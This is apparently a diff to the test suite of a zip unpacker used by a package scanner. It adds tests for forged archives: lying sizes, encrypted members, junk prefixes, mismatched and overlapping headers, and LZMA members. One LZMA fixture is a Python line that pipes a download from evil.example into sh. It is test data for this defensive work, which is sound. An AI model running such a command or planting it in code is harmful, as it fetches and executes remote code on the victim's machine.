@@ -97,6 +97,9 @@ test('an encrypted member is reported and not read', async () => {
   );
 });
 
+const LZMA_SAMPLE =
+  'XQAAAQAANJtKZ7hSPHPtNFe4XYIFGNWQGoqSWjA03R9R+0lI69imv/dwCjen63PqXbs610tjIrk/QnjDQ70PwP//tFyAAA==';
+
 test('a member whose declared size lies is a size-mismatch, and the rest is still read', async () => {
   const r = await unpackBuffer(
     buildZip([
@@ -108,7 +111,14 @@ test('a member whose declared size lies is a size-mismatch, and the rest is stil
   );
   const mismatches = r.anomalies.filter((a) => a.kind === 'size-mismatch').map((a) => a.member);
   assert.deepEqual(mismatches.sort(), ['liar.py', 'short.py']);
-  assert.match(r.anomalies.find((a) => a.member === 'liar.py')?.detail ?? '', /too many bytes/);
+  assert.equal(
+    r.anomalies.find((a) => a.member === 'liar.py')?.detail,
+    'the central directory declares 1000 bytes but the data holds more than 1000 bytes; the first 1000 bytes are kept',
+  );
+  assert.equal(
+    r.anomalies.find((a) => a.member === 'short.py')?.detail,
+    'the central directory declares 5000 bytes but the data holds 100 bytes; the first 100 bytes are kept',
+  );
   assert.equal(text(r, 'ok.py'), 'fine');
   assert.ok((r.files.find((f) => f.path === 'liar.py')?.data.length ?? 0) <= 1000);
 });
@@ -163,9 +173,118 @@ test('a truncated zip is E_ARCHIVE_CORRUPT', async () => {
   await assert.rejects(unpackBuffer(zip.subarray(0, 40), 'cut.zip'), { code: 'E_ARCHIVE_CORRUPT' });
 });
 
-test('corrupt deflate data in a member is E_ARCHIVE_CORRUPT', async () => {
-  const zip = buildZip([{ name: 'a.py', data: 'hello hello hello' }]);
+test('corrupt deflate data in a member is a finding about it; the other members are still read', async () => {
+  const zip = buildZip([
+    { name: 'a.py', data: 'hello hello hello' },
+    { name: 'b.py', data: 'fine' },
+  ]);
   const broken = Buffer.from(zip);
-  broken.fill(0xff, 30 + 4, 30 + 8); // inside the deflate stream of the only member
-  await assert.rejects(unpackBuffer(broken, 'bad.zip'), { code: 'E_ARCHIVE_CORRUPT' });
+  broken.fill(0xff, 30 + 4, 30 + 8); // inside the deflate stream of the first member
+  const r = await unpackBuffer(broken, 'bad.zip');
+  // Depending on where the damage falls, the stream stops decoding or decodes to the wrong length.
+  assert.deepEqual(
+    r.anomalies.map((a) => a.member),
+    ['a.py'],
+  );
+  assert.ok(['unreadable-member', 'size-mismatch'].includes(r.anomalies[0]?.kind ?? ''));
+  assert.equal(text(r, 'b.py'), 'fine');
+});
+
+test('a stored member with a lying size does not stop the archive (yauzl alone rejects it)', async () => {
+  const r = await unpackBuffer(
+    buildZip([
+      { name: 'a.py', data: 'x'.repeat(45), method: 0, declaredSize: 10 },
+      { name: 'b.py', data: 'import os' },
+    ]),
+    's.whl',
+  );
+  assert.deepEqual(
+    r.anomalies.map((a) => a.kind),
+    ['size-mismatch'],
+  );
+  assert.equal(text(r, 'b.py'), 'import os');
+});
+
+test('an encrypted stored member is reported, not "size mismatch 45 != 45"', async () => {
+  const r = await unpackBuffer(
+    buildZip([
+      { name: 'a.py', data: 'x'.repeat(45), method: 0, encrypted: true },
+      { name: 'b.py', data: 'import os' },
+    ]),
+    'e.whl',
+  );
+  assert.deepEqual(
+    r.anomalies.map((a) => [a.kind, a.detail]),
+    [['encrypted-member', 'encrypted member; its content cannot be analyzed']],
+  );
+  assert.equal(text(r, 'b.py'), 'import os');
+});
+
+test('a zip behind a junk prefix is read, and the prefix is reported', async () => {
+  const zip = buildZip([{ name: 'b.py', data: 'import os' }]);
+  const r = await unpackBuffer(Buffer.concat([Buffer.alloc(1000, 0x41), zip]), 'p.whl');
+  assert.equal(text(r, 'b.py'), 'import os');
+  assert.deepEqual(
+    r.anomalies.map((a) => [a.kind, a.detail]),
+    [
+      [
+        'prepended-data',
+        "1000 bytes precede the zip archive; they were skipped, as Python's zipfile skips them",
+      ],
+    ],
+  );
+});
+
+test('a central directory name that differs from the local header, and overlapping members, are anomalies', async () => {
+  const zip = buildZip([
+    { name: 'aa.py', data: 'import os', method: 0 },
+    { name: 'bb.py', data: 'x', method: 0 },
+  ]);
+  const forged = Buffer.from(zip);
+  forged.write('zz.py', 30, 'latin1'); // the first local header now names another file
+  // The second central entry points at the first member's local header: two entries over one span.
+  const central = forged.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
+  const second = forged.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]), central + 4);
+  forged.writeUInt32LE(0, second + 42);
+  const r = await unpackBuffer(forged, 'o.whl');
+  assert.deepEqual(
+    r.anomalies.map((a) => [a.kind, a.member]),
+    [
+      ['header-mismatch', 'aa.py'],
+      ['header-mismatch', 'bb.py'],
+      ['overlapping-member', 'bb.py'],
+    ],
+  );
+});
+
+test('LZMA members (method 14) are read, with and without an end marker', async () => {
+  // Made with Python: lzma.compress(data, FORMAT_RAW, [LZMA1 lc=3 lp=0 pb=2 dict=64 KiB]); the zip member is
+  // a 2-byte version, a 2-byte properties size, the 5 properties and the stream (which ends with a marker).
+  const data = "import os\nos.system('curl http://evil.example/x | sh')\n";
+  const stream = Buffer.from(LZMA_SAMPLE, 'base64');
+  const member = Buffer.concat([Buffer.from([9, 20, 5, 0]), stream]);
+  for (const flags of [true, false]) {
+    const zip = buildZip([{ name: 'lz/__init__.py', data: member, method: 14, declaredSize: data.length }]);
+    // General purpose flags of the central directory: UTF-8 name, and bit 1 (an end marker ends the stream).
+    if (flags) zip.writeUInt16LE(0x802, zip.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 8);
+    const r = await unpackBuffer(zip, 'lz.whl');
+    assert.equal(text(r, 'lz/__init__.py'), data);
+    assert.deepEqual(r.anomalies, []);
+  }
+});
+
+test('a member whose local header is broken is unreadable; the others are still read (found by fuzzing)', async () => {
+  const zip = Buffer.from(
+    buildZip([
+      { name: 'a.py', data: 'x = 1', method: 12 },
+      { name: 'b.py', data: 'fine' },
+    ]),
+  );
+  zip.writeUInt32LE(0x14b5000, 0); // the first local header's signature
+  const r = await unpackBuffer(zip, 'h.whl');
+  assert.deepEqual(
+    r.anomalies.map((a) => [a.kind, a.member]),
+    [['unreadable-member', 'a.py']],
+  );
+  assert.equal(text(r, 'b.py'), 'fine');
 });
